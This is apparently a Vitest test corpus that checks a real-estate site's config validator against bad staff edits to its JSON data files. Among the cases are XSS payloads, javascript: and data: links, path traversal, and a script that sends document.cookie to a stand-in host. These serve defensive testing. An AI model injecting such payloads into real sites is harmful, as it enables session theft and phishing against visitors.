import { rmSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { readSiteConfig } from '@/lib/config';
import { runCase, type CorpusCase, type JsonFile } from './harness';

/*
 * Issue 14, data/site: edits staff make to site.json, menu.json, articles.json and team.json. Each
 * is refused naming file, record and field, or (a missing picture the page can do without) warned
 * with the fallback probed in the configuration the site then uses.
 */

const menuFile = 'data/site/menu.json';
const siteFile = 'data/site/site.json';
const articlesFile = 'data/site/articles.json';
const teamFile = 'data/site/team.json';

/** Position of a record by its id, so that a case keeps editing the right one if the file is reordered. */
const at = (file: JsonFile, id: string | number) => file.indexOf((record) => record.id === id);
const record = (id: string | number) => new RegExp(`\\(id ${id}\\)`);

const cases: CorpusCase[] = [
  // ---- 1. Nothing hangs the build: parent loops ------------------------------------------------
  {
    name: "two menu entries made each other's parent (services under jobs, jobs under services)",
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'services'), 'parentId'], 'jobs'),
    expect: { refused: { file: menuFile, record: /id (services|jobs)/, field: 'parentId', message: /"services" → "jobs" → "services"|"jobs" → "services" → "jobs"/ } },
  },
  {
    name: 'a loop of three menu entries through their parents',
    file: 'site/menu.json',
    edit: (file) => {
      file.set([at(file, 'contact'), 'parentId'], 'useful-links');
      file.set([at(file, 'useful-links'), 'parentId'], 'free-valuation');
      file.set([at(file, 'free-valuation'), 'parentId'], 'contact');
    },
    expect: {
      refused: { file: menuFile, field: 'parentId', message: /loop.*"(contact|useful-links|free-valuation)" → "(contact|useful-links|free-valuation)" → "(contact|useful-links|free-valuation)" → / },
    },
  },
  {
    name: 'a menu entry whose parent is itself',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'demand-register'), 'parentId'], 'demand-register'),
    expect: { refused: { file: menuFile, record: record('demand-register'), field: 'parentId', message: /own parent/ } },
  },
  {
    name: 'a parent id with a typo',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'rental-management'), 'parentId'], 'servces'),
    expect: { refused: { file: menuFile, record: record('rental-management'), field: 'parentId', message: /no menu entry has id "servces"/ } },
  },

  // ---- 1. Nothing injects a script: ids and addresses -------------------------------------------
  {
    name: 'an analytics id pasted with a quote and code after it',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'analyticsId'], "G-AB12CD34EF');alert(document.cookie);//"),
    expect: { refused: { file: siteFile, field: 'siteInfo.analyticsId', message: /Google Analytics 4 id.*"G-AB12CD34EF"/ } },
  },
  {
    name: 'an old Universal Analytics id',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'analyticsId'], 'UA-48213377-1'),
    expect: { refused: { file: siteFile, field: 'siteInfo.analyticsId', message: /Universal Analytics/ } },
  },
  {
    name: 'an analytics id with a space in it',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'analyticsId'], 'G-7QX 4PLM2Z'),
    expect: { refused: { file: siteFile, field: 'siteInfo.analyticsId', message: /no quotes or spaces/ } },
  },
  {
    name: 'a tag manager id closing the script tag',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'tagManagerId'], 'GTM-K9PL2Q</script><script>alert(1)</script>'),
    expect: { refused: { file: siteFile, field: 'siteInfo.tagManagerId', message: /Google Tag Manager id.*"GTM-/ } },
  },
  {
    name: 'the analytics id pasted into the ads id',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'adsId'], 'G-AB12CD34EF'),
    expect: { refused: { file: siteFile, field: 'siteInfo.adsId', message: /Google Ads id.*"AW-123456789"/ } },
  },
  {
    name: 'an ads id with markup',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'adsId'], 'AW-1029384756"><img src=x>'),
    expect: { refused: { file: siteFile, field: 'siteInfo.adsId' } },
  },
  {
    name: 'a social pixel id with letters',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'socialPixelId'], 'fb-8841203399'),
    expect: { refused: { file: siteFile, field: 'siteInfo.socialPixelId', message: /digits only/ } },
  },
  {
    name: 'the CDN host written as a URL',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'cdnHost'], 'https://cdn.immo-hainaut.be/'),
    expect: { refused: { file: siteFile, field: 'siteInfo.cdnHost', message: /host name only/ } },
  },
  {
    name: 'an old picture host with a space',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'legacyImageHosts'], ['images.immo hainaut.be']),
    expect: { refused: { file: siteFile, field: 'siteInfo.legacyImageHosts.0', message: /not a host name/ } },
  },
  {
    name: 'the site URL with a language path after it',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'siteUrl'], 'https://www.immo-hainaut.be/nl/'),
    expect: { refused: { file: siteFile, field: 'siteInfo.siteUrl', message: /something after the host name/ } },
  },
  {
    name: 'the site URL without https://',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'siteUrl'], 'www.immo-hainaut.be'),
    expect: { refused: { file: siteFile, field: 'siteInfo.siteUrl', message: /https:\/\/www\.immo-hainaut\.be/ } },
  },
  {
    name: 'the site URL with a quote',
    file: 'site/site.json',
    edit: (file) => file.set(['siteInfo', 'siteUrl'], 'https://www.immo-hainaut.be"'),
    expect: { refused: { file: siteFile, field: 'siteInfo.siteUrl', message: /quote/ } },
  },

  // ---- 2. Menu paths that are the site's own pages ----------------------------------------------
  {
    name: 'a menu page at the Dutch thank-you path',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'useful-links'), 'params', 'path', 'nl'], 'bedankt'),
    expect: { refused: { file: menuFile, record: record('useful-links'), field: 'params.path.nl', message: /"bedankt" in Dutch \(nl\).*thank-you/ } },
  },
  {
    name: 'the French contact page moved to "login"',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'path', 'fr'], 'login'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.path.fr', message: /login page/ } },
  },
  {
    name: 'a page named like the English owner portal',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'demand-register'), 'params', 'path', 'en'], 'my-properties'),
    expect: { refused: { file: menuFile, record: record('demand-register'), field: 'params.path.en', message: /owner portal/ } },
  },
  {
    name: 'a page at the internal list-results path (German, not yet shown)',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'free-valuation'), 'params', 'path', 'de'], 'list-results'),
    expect: { refused: { file: menuFile, record: record('free-valuation'), field: 'params.path.de', message: /filtered property lists/ } },
  },
  {
    name: 'a page at the form-draft path',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'path', 'en'], 'form-draft'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.path.en', message: /form sent back/ } },
  },
  {
    name: 'a page at "Vergelijken" with capitals',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'useful-links'), 'params', 'path', 'nl'], 'Vergelijken'),
    expect: { refused: { file: menuFile, record: record('useful-links'), field: 'params.path.nl', message: /comparison of listings \(\/nl\/vergelijken\/\)/ } },
  },
  {
    name: 'a page at "favoris", the favourites page in French',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'path', 'fr'], 'favoris'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.path.fr', message: /in French \(fr\) is already the address of the favourites page \(\/fr\/favoris\/\)/ } },
  },
  {
    name: 'a page at "Te-Koop", the path of the for-sale list and of the menu entry that links it',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'useful-links'), 'params', 'path', 'nl'], 'Te-Koop'),
    expect: { refused: { file: menuFile, record: record('useful-links'), field: 'params.path.nl', message: /already used by menu entry "for-sale"/ } },
  },
  {
    name: 'a page at the 404 path',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'path', 'nl'], '404'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.path.nl', message: /page not found/ } },
  },

  // ---- 2. Drafts, languages, slugs --------------------------------------------------------------
  {
    name: 'the article a module shows set back to Draft',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'rental'), 'status'], 'Draft'),
    expect: { refused: { file: menuFile, record: record('rental-management'), field: 'params.modules.0.relations.id', message: /"rental", which is a Draft/ } },
  },
  {
    name: 'every testimonial set to Draft while the testimonials page lists them',
    file: 'site/articles.json',
    edit: (file) => {
      for (const article of file.records()) if (article.category === 'testimonials') article.status = 'Draft';
    },
    expect: { refused: { file: menuFile, record: record('testimonials'), field: /relations\.id/, message: /no Published article/ } },
  },
  {
    name: 'a module pointing to an article id with a typo',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'useful-links'), 'params', 'modules', 0, 'relations', 'id'], 'usefull-links'),
    expect: { refused: { file: menuFile, record: record('useful-links'), field: 'params.modules.0.relations.id', message: /no article has id "usefull-links"/ } },
  },
  {
    name: 'a menu title emptied in French',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'title', 'fr'], ''),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.title.fr', message: /French \(fr\)/ } },
  },
  {
    name: 'a menu title without its English version',
    file: 'site/menu.json',
    edit: (file) => file.remove([at(file, 'jobs'), 'params', 'title', 'en']),
    expect: { refused: { file: menuFile, record: record('jobs'), field: 'params.title.en', message: /English \(en\)/ } },
  },
  {
    name: 'an article title of spaces in Dutch',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'sell'), 'title', 'nl'], '   '),
    expect: { refused: { file: articlesFile, record: record('sell'), field: 'title.nl', message: /Dutch \(nl\)/ } },
  },
  {
    name: 'an article slug left empty in French',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'testimonial-3'), 'slug', 'fr'], ''),
    expect: { refused: { file: articlesFile, record: record('testimonial-3'), field: 'slug.fr' } },
  },
  {
    name: 'Published children under a Draft parent',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'services'), 'status'], 'Draft'),
    expect: { refused: { file: menuFile, record: record('rental-management'), field: 'status', message: /parent "services" is Draft/ } },
  },
  {
    name: 'Published children under a Hidden parent',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'services'), 'status'], 'Hidden'),
    expect: { refused: { file: menuFile, record: record('jobs'), field: 'status', message: /parent "services" is Hidden/ } },
  },
  {
    name: 'two testimonials with the same Dutch slug',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'testimonial-2'), 'slug', 'nl'], 'getuigenis-martine'),
    expect: { refused: { file: articlesFile, record: record('testimonial-2'), field: 'slug.nl', message: /already used by article "testimonial-1"/ } },
  },
  {
    name: 'two service articles whose English slugs differ only in capitals',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'rental'), 'slug', 'en'], 'Sell'),
    expect: { refused: { file: articlesFile, record: record('rental'), field: 'slug.en', message: /already used by article "sell"/ } },
  },
  {
    name: 'a menu date with month 13 and day 45',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'createDate'], '2026-13-45'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'createDate', message: /month 13/ } },
  },
  {
    name: 'an article dated 30 February',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'testimonial-1'), 'createDate'], '2026-02-30'),
    expect: { refused: { file: articlesFile, record: record('testimonial-1'), field: 'createDate', message: /February 2026 has 28 days/ } },
  },
  {
    name: 'a menu page modified on 31 April',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'jobs'), 'modifyDate'], '2026-04-31'),
    expect: { refused: { file: menuFile, record: record('jobs'), field: 'modifyDate', message: /April 2026 has 30 days/ } },
  },
  {
    name: 'an article date written the Belgian way',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'sell'), 'createDate'], '12/01/2026'),
    expect: { refused: { file: articlesFile, record: record('sell'), field: 'createDate', message: /year-month-day/ } },
  },
  {
    name: "a menu date at 25 o'clock",
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'projects'), 'modifyDate'], '2026-03-02T25:10'),
    expect: { refused: { file: menuFile, record: record('projects'), field: 'modifyDate', message: /impossible time/ } },
  },

  // ---- 3. Links ---------------------------------------------------------------------------------
  {
    name: 'a javascript: header link',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'right', 0, 'link', 'nl'], 'javascript:alert(document.cookie)'),
    expect: { refused: { file: siteFile, field: 'header.links.right.0.link.nl', message: /javascript: link/ } },
  },
  {
    name: 'a header link in capitals with a tab in the scheme',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'left', 0, 'link'], 'Java\tScript:void(0)'),
    expect: { refused: { file: siteFile, field: 'header.links.left.0.link' } },
  },
  {
    name: 'a header link without https://',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'left', 1, 'link'], 'www.immo-hainaut.be/contact'),
    expect: { refused: { file: siteFile, field: 'header.links.left.1.link', message: /missing "https:\/\/" in front/ } },
  },
  {
    name: 'a header link starting with //',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'right', 0, 'link', 'en'], '//evil.example/login'),
    expect: { refused: { file: siteFile, field: 'header.links.right.0.link.en', message: /starts with "\/\/"/ } },
  },
  {
    name: 'a phone link with spaces',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'left', 0, 'link'], 'tel:065 12 34 56'),
    expect: { refused: { file: siteFile, field: 'header.links.left.0.link' } },
  },
  {
    name: 'an e-mail link without an address',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'left', 1, 'link'], 'mailto:info'),
    expect: { refused: { file: siteFile, field: 'header.links.left.1.link', message: /mailto: followed by the address/ } },
  },
  {
    name: 'an ftp link',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'left', 1, 'link'], 'ftp://files.immo-hainaut.be/brochure.pdf'),
    expect: { refused: { file: siteFile, field: 'header.links.left.1.link', message: /"ftp:", which is not allowed/ } },
  },
  {
    name: 'a data: redirect',
    file: 'site/menu.json',
    edit: (file) => {
      file.set([at(file, 'jobs'), 'params', 'redirect'], true);
      file.set([at(file, 'jobs'), 'params', 'redirectUrl'], 'data:text/html,<script>alert(1)</script>');
    },
    expect: { refused: { file: menuFile, record: record('jobs'), field: 'params.redirectUrl', message: /data: link/ } },
  },
  {
    name: 'a redirect to a host without https://',
    file: 'site/menu.json',
    edit: (file) => {
      file.set([at(file, 'useful-links'), 'params', 'redirect'], true);
      file.set([at(file, 'useful-links'), 'params', 'redirectUrl'], 'notaris.be');
    },
    expect: { refused: { file: menuFile, record: record('useful-links'), field: 'params.redirectUrl', message: /https:\/\/notaris\.be/ } },
  },

  // ---- 3. Text fields hold text -----------------------------------------------------------------
  {
    name: 'bold markup in the French copyright',
    file: 'site/site.json',
    edit: (file) => file.set(['footer', 'copyright', 'fr'], '<b>© 2026</b> Immo Hainaut. Tous droits réservés.'),
    expect: { refused: { file: siteFile, field: 'footer.copyright.fr', message: /"<b>"/ } },
  },
  {
    name: 'a link in a footer column text',
    file: 'site/site.json',
    edit: (file) => file.set(['footer', 'bottom', 1, 'fullText', 'en'], 'Saturday: <a href="/en/contact/">by appointment</a>'),
    expect: { refused: { file: siteFile, field: 'footer.bottom.1.fullText.en', message: /HTML/ } },
  },
  {
    name: 'an entity in a footer column title',
    file: 'site/site.json',
    edit: (file) => file.set(['footer', 'bottom', 0, 'title'], 'Immo Hainaut &amp; Partners'),
    expect: { refused: { file: siteFile, field: 'footer.bottom.0.title', message: /"&amp;"/ } },
  },
  {
    name: 'a web address in the banner title',
    file: 'site/site.json',
    edit: (file) => file.set(['banner', 'title', 'text', 'nl'], 'Thuis in Henegouwen op www.immo-hainaut.be'),
    expect: { refused: { file: siteFile, field: 'banner.title.text.nl', message: /web address/ } },
  },
  {
    name: 'a line break tag in the home search text',
    file: 'site/site.json',
    edit: (file) => file.set(['homeSearch', 'description', 'text', 'en'], 'FOR_SALE_TOTAL for sale<br>FOR_RENT_TOTAL for rent'),
    expect: { refused: { file: siteFile, field: 'homeSearch.description.text.en' } },
  },
  {
    name: 'markup in a header link label',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'links', 'right', 0, 'label', 'fr'], '<span class="bold">Espace propriétaire</span>'),
    expect: { refused: { file: siteFile, field: 'header.links.right.0.label.fr' } },
  },
  {
    name: 'a non-breaking space entity in a marquee name',
    file: 'site/site.json',
    edit: (file) => file.set(['marquees', 1, 'name', 'fr'], 'Nouveau&nbsp;!'),
    expect: { refused: { file: siteFile, record: /marquees\[1\]/, field: 'name.fr', message: /&nbsp;/ } },
  },
  {
    name: 'a script in a menu description',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'description', 'en'], 'Get in touch<script>fetch("//x.example/?"+document.cookie)</script>'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.description.en' } },
  },
  {
    name: 'italic markup in a menu banner title',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'services'), 'params', 'bannerTitle'], 'Onze <i>diensten</i>'),
    expect: { refused: { file: menuFile, record: record('services'), field: 'params.bannerTitle' } },
  },
  {
    name: 'a heading tag in a module title',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'services'), 'params', 'modules', 1, 'title'], '<h2>Our team</h2>'),
    expect: { refused: { file: menuFile, record: record('services'), field: 'params.modules.1.title' } },
  },
  {
    name: 'a web address in an article summary',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'useful-links'), 'summary', 'en'], 'All the addresses, starting with https://www.biv.be'),
    expect: { refused: { file: articlesFile, record: record('useful-links'), field: 'summary.en', message: /https:\/\/www\.biv\.be/ } },
  },
  {
    name: 'italic markup in a team role',
    file: 'site/team.json',
    edit: (file) => file.set([at(file, 3), 'role', 'fr'], '<i>Gestionnaire</i> locative'),
    expect: { refused: { file: teamFile, record: record(3), field: 'role.fr' } },
  },
  {
    name: 'markup in the app bar text',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'appBar', 'text', 'en'], 'Licensed estate agent <strong>IPI 512.345</strong>'),
    expect: { refused: { file: siteFile, field: 'header.appBar.text.en' } },
  },

  // ---- 3. HTML that is allowed goes through the sanitizer ---------------------------------------
  {
    name: 'a script in an article body',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'sell'), 'body', 'nl'], '<p>Verkopen met Immo Hainaut.</p><script src="https://x.example/a.js"></script>'),
    expect: { refused: { file: articlesFile, record: record('sell'), field: 'body.nl', message: /<script>/ } },
  },
  {
    name: 'an onclick in an article body',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'rental'), 'body', 'fr'], '<p onclick="alert(1)">Louer sans souci.</p>'),
    expect: { refused: { file: articlesFile, record: record('rental'), field: 'body.fr', message: /onclick/ } },
  },
  {
    name: 'a javascript: link in an article body',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'useful-links'), 'body', 'en'], '<p>See <a href="javascript:alert(1)">the notary</a>.</p>'),
    expect: { refused: { file: articlesFile, record: record('useful-links'), field: 'body.en', message: /href="javascript:…"/ } },
  },
  {
    name: 'an iframe in a menu page content',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'content'], '<iframe src="https://maps.example/embed"></iframe>'),
    expect: { refused: { file: menuFile, record: record('contact'), field: 'params.content', message: /<iframe>/ } },
  },
  {
    name: 'a div and a span in an article body (formatting dropped)',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'disclaimer'), 'body', 'en'], '<div class="intro"><p>This site is published by <span>Immo Hainaut SRL</span>.</p></div>'),
    expect: { warned: { file: articlesFile, record: record('disclaimer'), field: 'body.en', message: /<div>, <span>/ } },
  },
  {
    name: 'a link to a page of the site in an article body (shown as text)',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'sell'), 'body', 'fr'], '<p>Contactez-nous via <a href="/fr/contact/">notre formulaire</a>.</p>'),
    expect: { warned: { file: articlesFile, record: record('sell'), field: 'body.fr', message: /"\/fr\/contact\/" \(kept as text\)/ } },
  },

  // ---- Files named in data/site -----------------------------------------------------------------
  {
    name: 'the logo renamed to a file that does not exist',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'logo', 'image'], '/images/logo-2026.svg'),
    expect: { refused: { file: siteFile, field: 'header.logo.image', message: /public\/images\/logo-2026\.svg/ } },
  },
  {
    name: 'the logo with ../ in its path',
    file: 'site/site.json',
    edit: (file) => file.set(['header', 'logo', 'image'], '/images/../../data/site/site.json'),
    expect: { refused: { file: siteFile, field: 'header.logo.image', message: /"\.\."/ } },
  },
  {
    name: 'a banner picture written without the leading /',
    file: 'site/site.json',
    edit: (file) => file.set(['banner', 'image', 'url'], 'images/banner/1.webp'),
    expect: { refused: { file: siteFile, field: 'banner.image.url', message: /starting with|from the site root/ } },
  },
  {
    name: "a team photo on the old photographer's host",
    file: 'site/team.json',
    edit: (file) => file.set([at(file, 2), 'photo'], 'https://photos.studio-example.be/pieter.jpg'),
    expect: { refused: { file: teamFile, record: record(2), field: 'photo', message: /photos\.studio-example\.be/ } },
  },
  {
    name: 'a team photo that does not exist (initials instead)',
    file: 'site/team.json',
    edit: (file) => file.set([at(file, 1), 'photo'], '/images/team/sophie.webp'),
    expect: {
      warned: { file: teamFile, record: record(1), field: 'photo', message: /initials/ },
      probe: ({ siteDir, publicDir }) => {
        const result = readSiteConfig(siteDir, { publicDir });
        expect(result.ok && result.config.team.find((member) => member.id === 1)?.photo).toBeNull();
      },
    },
  },
  {
    name: 'a team photo deleted from public/',
    file: 'site/team.json',
    files: (root) => rmSync(path.join(root, 'public/images/team/4.webp')),
    expect: { warned: { file: teamFile, record: record(4), field: 'photo', message: /public\/images\/team\/4\.webp/ } },
  },
  {
    name: 'a gallery picture that does not exist (left out of the gallery)',
    file: 'site/site.json',
    edit: (file) => file.set(['banner', 'gallery', 'images', 2], '/images/banner/3.jpg'),
    expect: {
      warned: { file: siteFile, field: 'banner.gallery.images.2', message: /gallery leaves this picture out/ },
      probe: ({ siteDir, publicDir }) => {
        const result = readSiteConfig(siteDir, { publicDir });
        expect(result.ok && result.config.site.banner.gallery.images).toEqual(['/images/banner/1.webp', '/images/banner/2.webp', '/images/banner/4.webp']);
      },
    },
  },
  {
    name: 'an article picture that does not exist',
    file: 'site/articles.json',
    edit: (file) => file.set([at(file, 'testimonial-2'), 'image'], '/images/articles/julien.webp'),
    expect: {
      warned: { file: articlesFile, record: record('testimonial-2'), field: 'image', message: /without a picture/ },
      probe: ({ siteDir, publicDir }) => {
        const result = readSiteConfig(siteDir, { publicDir });
        expect(result.ok && result.config.articles.find((article) => article.id === 'testimonial-2')?.image).toBe('');
      },
    },
  },
  {
    name: 'a module background picture that does not exist',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'services'), 'params', 'modules', 2, 'image'], '/images/backgrounds/stats.webp'),
    expect: { warned: { file: menuFile, record: record('services'), field: 'params.modules.2.image', message: /background picture/ } },
  },
  {
    name: 'a footer column picture that does not exist',
    file: 'site/site.json',
    edit: (file) => file.set(['footer', 'bottom', 0, 'image'], '/images/footer-logo.png'),
    expect: { warned: { file: siteFile, field: 'footer.bottom.0.image', message: /without its picture/ } },
  },
  {
    name: 'a share picture that does not exist',
    file: 'site/menu.json',
    edit: (file) => file.set([at(file, 'contact'), 'params', 'metadata', 'fr', 'ogImage'], '/images/og/contact.jpg'),
    expect: { warned: { file: menuFile, record: record('contact'), field: 'params.metadata.fr.ogImage' } },
  },
];

describe('data corpus: data/site', () => {
  it('has its own cases, each with a distinct name', () => {
    expect(cases.length).toBeGreaterThanOrEqual(45);
    expect(new Set(cases.map((testCase) => testCase.name)).size).toBe(cases.length);
  });

  it.each(cases.map((testCase) => [testCase.name, testCase] as const))('%s', (_, testCase) => runCase(testCase));
});
